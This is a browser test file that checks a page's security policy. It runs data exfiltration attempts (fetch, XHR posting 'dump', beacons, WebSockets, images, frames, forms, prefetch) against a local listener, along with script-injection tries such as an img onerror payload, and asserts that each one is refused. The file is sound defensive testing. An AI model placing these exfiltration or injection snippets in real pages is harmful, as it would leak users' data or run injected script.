// What the page is given does not leave it, and the browser itself sees to that.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { launch, openPage, serveNoting, skip, untilKept } from './visit.mjs';

describe('the page in Chromium', { skip }, () => {
  let site;
  let browser;
  let page;
  let elsewhere;
  const strangers = [];
  const messages = [];

  before(async () => {
    site = await serveNoting();
    elsewhere = createServer((request, response) => {
      strangers.push(request.url);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.end('heard');
    });
    await new Promise((listening) => elsewhere.listen(0, '127.0.0.1', listening));
    browser = await launch();
    page = await browser.newPage();
    page.on('console', (message) => messages.push(`${message.type()}: ${message.text()}`));
    page.on('pageerror', (error) => messages.push(String(error)));
    await openPage(page, site.address);
    await untilKept(page);
  });

  after(async () => {
    await browser?.close();
    await site?.close();
    elsewhere?.closeAllConnections();
    elsewhere?.close();
  });

  it('asks for nothing more once it is loaded, whatever is done with it', async () => {
    await page.waitForLoadState('networkidle');
    const before = site.requests.length;
    const asked = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.getByRole('button', { name: /2006/ }).first().click();
    await page.getByText(/---0 -0-0/).first().waitFor();
    for (const button of await page.getByRole('button', { name: /^copy/i }).all()) {
      if (await button.isVisible()) await button.click();
    }
    await page.waitForTimeout(500);
    assert.deepEqual(asked.filter((url) => !url.startsWith('data:')), []);
    assert.deepEqual(site.requests.slice(before), []);
  });

  it('breaks none of its own rules', () => {
    assert.deepEqual(messages, []);
  });

  for (const [name, attempt] of Object.entries(attempts())) {
    it(`cannot reach another origin by ${name}`, async () => {
      const target = `127.0.0.1:${elsewhere.address().port}/${encodeURIComponent(name)}`;
      const outcome = await page.evaluate(attempt, target);
      assert.equal(outcome, 'refused');
      assert.deepEqual(strangers, []);
    });
  }

  it('cannot fetch from its own origin either', async () => {
    const before = site.requests.length;
    const outcome = await page.evaluate(() =>
      fetch('/?stolen').then(() => 'sent', () => 'refused'));
    assert.equal(outcome, 'refused');
    assert.equal(site.requests.length, before);
  });

  it('runs no inline script and no string as script', async () => {
    const outcome = await page.evaluate(() => {
      const tries = {
        inline: () => {
          const script = document.createElement('script');
          script.append('window.ran = 1');
          document.body.append(script);
        },
        markup: () => { document.body.innerHTML = '<img src=x onerror="window.ran = 1">'; },
        attribute: () => { document.body.setAttribute('onclick', 'window.ran = 1'); },
        worker: () => new Worker('/sw.js'),
        policy: () => window.trustedTypes.createPolicy('other', {}),
      };
      for (const act of Object.values(tries)) {
        try { act(); } catch { /* refused */ }
      }
      document.body.click();
      return new Promise((done) => { setTimeout(() => done(window.ran ?? 'refused'), 200); });
    });
    assert.equal(outcome, 'refused');
    assert.ok(await page.locator('body *').count() > 3, 'the page is still there');
  });
});

// Each runs in the page and resolves to 'refused' when the browser would not send.
function attempts() {
  return {
    fetch: (target) => fetch(`http://${target}`).then(() => 'sent', () => 'refused'),
    'fetch without cors': (target) =>
      fetch(`http://${target}`, { mode: 'no-cors' }).then(() => 'sent', () => 'refused'),
    XMLHttpRequest: (target) => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onload = () => done('sent');
      request.onerror = () => done('refused');
      request.open('POST', `http://${target}`);
      request.send('dump');
    }),
    // A beacon reports that it was queued, not that it was sent: the listener decides.
    beacon: async (target) => {
      navigator.sendBeacon(`http://${target}`, 'dump');
      await new Promise((done) => { setTimeout(done, 300); });
      return 'refused';
    },
    WebSocket: (target) => new Promise((done) => {
      try {
        const socket = new WebSocket(`ws://${target}`);
        socket.onopen = () => done('sent');
        socket.onerror = () => done('refused');
      } catch {
        done('refused');
      }
    }),
    EventSource: (target) => new Promise((done) => {
      const source = new EventSource(`http://${target}`);
      source.onopen = () => done('sent');
      source.onerror = () => { source.close(); done('refused'); };
    }),
    image: (target) => new Promise((done) => {
      const image = new Image();
      image.onload = () => done('sent');
      image.onerror = () => done('refused');
      image.src = `http://${target}`;
    }),
    'style sheet': (target) => new Promise((done) => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'stylesheet', href: `http://${target}` });
      link.onload = () => done('sent');
      link.onerror = () => done('refused');
      document.head.append(link);
    }),
    frame: async (target) => {
      const frame = document.createElement('iframe');
      frame.src = `http://${target}`;
      document.body.append(frame);
      await new Promise((done) => { setTimeout(done, 300); });
      frame.remove();
      return 'refused';
    },
    form: async (target) => {
      const form = document.createElement('form');
      Object.assign(form, { action: `http://${target}`, method: 'post', target: '_self' });
      document.body.append(form);
      form.submit();
      await new Promise((done) => { setTimeout(done, 300); });
      form.remove();
      return 'refused';
    },
    preconnect: async (target) => {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'prefetch', href: `http://${target}` });
      document.head.append(link);
      await new Promise((done) => { setTimeout(done, 300); });
      return 'refused';
    },
  };
}
